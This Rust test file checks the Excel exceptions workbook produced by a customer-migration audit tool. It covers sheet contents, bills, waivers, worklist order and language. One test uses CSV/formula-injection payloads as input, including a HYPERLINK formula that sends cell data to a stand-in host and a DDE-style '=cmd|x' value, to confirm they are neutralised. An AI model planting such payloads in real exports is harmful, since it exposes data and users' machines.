//! `exceptions.xlsx`, read by another program's reader. tests/workbook opens it in `LibreOffice`.

use std::collections::BTreeMap;
use std::fs;

use calamine::{Data, DataType, Reader, Xlsx, open_workbook};

use crate::support::{Audit, Story};

/// The rows of a sheet by the titles of its columns; empty cells are absent.
type Rows = Vec<BTreeMap<String, Data>>;

fn sheet_names(audit: &Audit) -> Vec<String> {
    open(audit).sheet_names()
}

fn open(audit: &Audit) -> Xlsx<std::io::BufReader<fs::File>> {
    open_workbook(audit.reports.join("exceptions.xlsx")).unwrap()
}

fn sheet(audit: &Audit, name: &str) -> Rows {
    let range = open(audit).worksheet_range(name).unwrap_or_else(|error| panic!("{name}: {error}"));
    let titles: Vec<String> = range.rows().next().unwrap().iter().map(ToString::to_string).collect();
    let row = |cells: &[Data]| {
        titles.iter().cloned().zip(cells.iter().cloned()).filter(|(_, cell)| *cell != Data::Empty).collect()
    };
    range.rows().skip(1).map(row).collect()
}

fn text(row: &BTreeMap<String, Data>, title: &str) -> String {
    match row.get(title) {
        None => "-".to_owned(),
        Some(Data::String(text)) => text.clone(),
        Some(other) => panic!("{title} is no text: {other:?}"),
    }
}

/// Sheet -> rows and rows in all, as in the summary.
fn sheets(audit: &Audit) -> BTreeMap<String, (i64, Option<i64>)> {
    let range = open(audit).worksheet_range("汇总").unwrap();
    let lines = range.rows().skip_while(|row| row[0] != Data::String("工作表".to_owned())).skip(1);
    let lines = lines.take_while(|row| row[0] != Data::Empty);
    lines.map(|row| (row[0].to_string(), (row[2].as_i64().unwrap(), row[3].as_i64()))).collect()
}

const CONTRACT: &str = "[contract]\nrelations = 2\nunit_price = \"0.80\"\n[[contract.payments]]\nid = \"P1\"\n\
    paid_on = 2026-04-01\namount = \"1.00\"";

/// One migrated, two missing of one account, one misplaced, one refused, one that was not to move and arrived.
fn story() -> Story {
    let before = "ann: wei 2025-01-01 id=w1 unionid=u1; ann: li 2025-01-01 id=w2 unionid=u2; \
            ann: lost 2025-03-02T02:15:00Z id=w3 unionid=u3;
        ann: gone 2025-01-01 id=00123 unionid=u9; bob: no 2025-01-01 id=w4 unionid=u4; \
            ann: late 2026-05-02 id=w5 unionid=u5";
    let after = "ann2: wei 2026-05-02 id=t1 unionid=u1; bob2: li 2026-05-03 id=t2 unionid=u2; \
        ann2: late 2026-05-04 id=t5 unionid=u5";
    Story::new(before, after).refusals("w4")
}

#[test]
fn each_kind_with_rows_has_its_sheet_and_the_summary_says_how_many() {
    let audit = story().toml(CONTRACT).audit();
    assert_eq!(
        sheet_names(&audit),
        ["汇总", "发现", "到了别的账号", "缺失", "范围外到达", "客户拒绝", "账号", "账单", "待办"],
        "the most serious kinds first, none without rows"
    );
    let (sheets, summary) = (sheets(&audit), audit.summary_json());
    for (name, outcome) in [
        ("缺失", "missing"),
        ("到了别的账号", "misplaced"),
        ("客户拒绝", "refused"),
        ("范围外到达", "arrived_out_of_scope"),
        ("无法判定", "undetermined"),
    ] {
        let count = summary["relations"]["by_outcome"][outcome].as_i64();
        assert_eq!(sheets[name], (count.unwrap(), count), "{name}");
    }
    for name in sheet_names(&audit).iter().filter(|name| *name != "汇总") {
        assert_eq!(sheet(&audit, name).len(), usize::try_from(sheets[name].0).unwrap(), "{name}");
    }
    assert_eq!(sheets["发现"].0, i64::try_from(audit.summary.findings.len()).unwrap());
    assert_eq!(sheets["拒收"], (0, Some(0)));
    assert_eq!((sheets["客户群"], sheets["活码"]), ((0, None), (0, None)), "not measured is no zero");
}

#[test]
fn ids_are_text_times_are_dates_and_money_is_a_number() {
    let audit = story().toml(CONTRACT).audit();
    let missing = sheet(&audit, "缺失");
    assert_eq!(
        missing.iter().map(|row| text(row, "迁出客户 ID")).collect::<Vec<_>>(),
        ["00123", "w3"],
        "as the report sorts them"
    );
    let lost = &missing[1];
    // 02:15 UTC is 10:15 on the clock of the case; 2 March 2025 is day 45718 of the spreadsheets, which 1 January
    // began as 45658.
    let Data::DateTime(time) = &lost["迁出企业添加时间（Asia/Shanghai）"] else {
        panic!("it is no date: {lost:?}")
    };
    assert_eq!(format!("{:.3}", time.as_f64() * 24.0 * 60.0), format!("{}.000", 45_718 * 24 * 60 + 10 * 60 + 15));
    assert_eq!(
        ["严重程度", "客户名称", "迁出账号", "迁入账号", "原因", "已豁免"].map(|title| text(lost, title)),
        ["缺陷 (defect)", "lost", "ann", "ann2", "未找到 (no_trace)", "否"]
    );
    assert_eq!(text(lost, "下一步"), "把名单提交给服务方，要求逐条说明或补迁。");
    // Two contracted at 0.80, five in scope, no tolerance: 1.60 and a surcharge of 2.40; 1.00 was paid.
    let bill: BTreeMap<String, f64> = sheet(&audit, "账单")
        .iter()
        .filter_map(|row| Some((text(row, "账单项目"), row.get("金额")?.get_float()?)))
        .collect();
    assert_eq!(
        ["合同", "附加费", "应付", "差额"].map(|line| format!("{:.2}", bill[line])),
        ["1.60", "2.40", "4.00", "3.00"]
    );
}

#[test]
fn the_worklist_is_sorted_by_target_account_with_the_next_step() {
    let groups = "g1: bob vip 2025-01-01; g2: zoe other 2025-01-01";
    let audit = story().groups("source-before", groups).groups("target-after", "h9: bob2 else 2020-01-01").audit();
    let task = |row: &BTreeMap<String, Data>| {
        ["迁入账号", "严重程度", "类别", "ID", "发现代码"].map(|title| text(row, title)).join(" | ")
    };
    let worklist = sheet(&audit, "待办");
    assert_eq!(
        worklist.iter().map(task).collect::<Vec<_>>(),
        [
            "ann2 | 缺陷 (defect) | 到了别的账号 | w2 | B7-misplaced",
            "ann2 | 缺陷 (defect) | 缺失 | 00123 | B8-missing",
            "ann2 | 缺陷 (defect) | 缺失 | w3 | B8-missing",
            "ann2 | 待复核 (review) | 范围外到达 | w5 | D1-added-after-start-arrived",
            "bob2 | 缺陷 (defect) | 客户群 | g1 | B8-group-missing",
            "bob2 | 待复核 (review) | 客户拒绝 | w4 | A3-refused",
        ]
    );
    assert!(worklist.iter().all(|row| text(row, "下一步").ends_with('。')));
}

/// What is waived stays visible, and is no task any more.
#[test]
fn waived_rows_are_no_tasks() {
    let waiver = "[[waivers]]\ncode = \"B8-missing\"\nkeys = [\"ann/w3\"]\nreason = \"known\"\nby = \"lead\"";
    let audit = story().toml(waiver).audit();
    let waived: Vec<String> = sheet(&audit, "缺失").iter().map(|row| text(row, "已豁免")).collect();
    assert_eq!(waived, ["否", "是"]);
    let ids: Vec<String> = sheet(&audit, "待办").iter().map(|row| text(row, "ID")).collect();
    assert!(ids.contains(&"00123".to_owned()) && !ids.contains(&"w3".to_owned()), "{ids:?}");
}

/// A customer may call herself what she likes; no cell is a formula, nor becomes one when it is saved as CSV.
#[test]
fn nothing_starts_a_formula() {
    let names = "=HYPERLINK(\"http://x\"&A1) +1 -小明- @所有人 ＝1+1";
    let before: String = names
        .split(' ')
        .enumerate()
        .map(|(n, name)| format!("w{n},ann,\"{}\",=cmd|x,2025-01-01\n", name.replace('"', "\"\"")))
        .collect();
    let story = Story::lost().file(
        "source-before/relations.csv",
        &format!("external_userid,userid,customer_name,remark,created_at\n{before}\"\t=1\",ann,x,,2025-01-01\n"),
    );
    let audit = story.audit();
    let shown: Vec<String> = sheet(&audit, "缺失").iter().map(|row| text(row, "客户名称")).collect();
    let guarded: Vec<String> = names.split(' ').map(|name| format!("'{name}")).collect();
    for name in &guarded {
        assert!(shown.contains(name), "{name} is not among {shown:?}");
    }
    for name in sheet_names(&audit) {
        let mut book = open(&audit);
        assert!(book.worksheet_formula(&name).unwrap().is_empty(), "{name} has formulas");
        for cell in book.worksheet_range(&name).unwrap().used_cells() {
            let starts = cell.2.get_string().is_some_and(|text| text.starts_with(['=', '+', '-', '@', '\t', '\r']));
            assert!(!starts, "{name}: {:?}", cell.2);
        }
    }
}

#[test]
fn english_where_the_case_asks_for_it() {
    let audit = story().with_case_key("language = \"en\"").audit();
    assert_eq!(sheet_names(&audit)[..4], ["Summary", "Findings", "Misplaced", "Missing"]);
    let row = &sheet(&audit, "Missing")[0];
    assert_eq!(text(row, "Next step"), "Hand the list to the service: ask for an explanation or a second run.");
    assert!(row.contains_key("Added at source (Asia/Shanghai)"));
    let is_han = |c: char| ('\u{4e00}'..='\u{9fff}').contains(&c);
    for name in sheet_names(&audit) {
        let range = open(&audit).worksheet_range(&name).unwrap();
        let chinese = range.used_cells().find(|cell| cell.2.to_string().contains(is_han));
        assert!(chinese.is_none(), "{name}: {chinese:?}");
    }
}

/// The Parquet reports hold English; the workbook tells it in the language of the case.
#[test]
fn the_bill_and_what_could_not_be_read_are_in_the_language_of_the_case() {
    let unreadable = "userid,customer_name,created_at,external_userid\nann,wei,5 parsecs,w1\n";
    let story = |lang: &str| {
        let story = Story::new("", "ann2: wei 2026-05-02").toml(CONTRACT).file("source-before/x.csv", unreadable);
        story.accounts("ann ann2").with_case_key(&format!("language = \"{lang}\"")).audit()
    };
    let (zh, en) = (story("zh"), story("en"));
    let (line, how) = (&sheet(&zh, "账单")[0], "合同约定的客户关系数 × 单价");
    assert_eq!((text(line, "账单项目"), text(line, "口径")), ("合同".to_owned(), how.to_owned()));
    assert_eq!(text(&sheet(&en, "Bill")[0], "Line"), "contract");
    let reason = "不是时间：写成 2026-04-30 22:00:00、RFC 3339 或 Unix 秒数";
    assert_eq!(text(&sheet(&zh, "拒收")[0], "原因"), reason);
    let reason = "not a time: use 2026-04-30 22:00:00, RFC 3339 or unix seconds";
    assert_eq!(text(&sheet(&en, "Rejects")[0], "Reason"), reason);
    assert_eq!(zh.report("rejects")[0]["reason"], reason);
}

#[test]
fn an_empty_case_has_a_workbook_too() {
    let audit = Story::new("", "").accounts("nobody nobody2").audit();
    let names = sheet_names(&audit);
    assert_eq!((names.first().map(String::as_str), names.last().map(String::as_str)), (Some("汇总"), Some("待办")));
    assert_eq!(sheet(&audit, "待办").len(), 0);
}
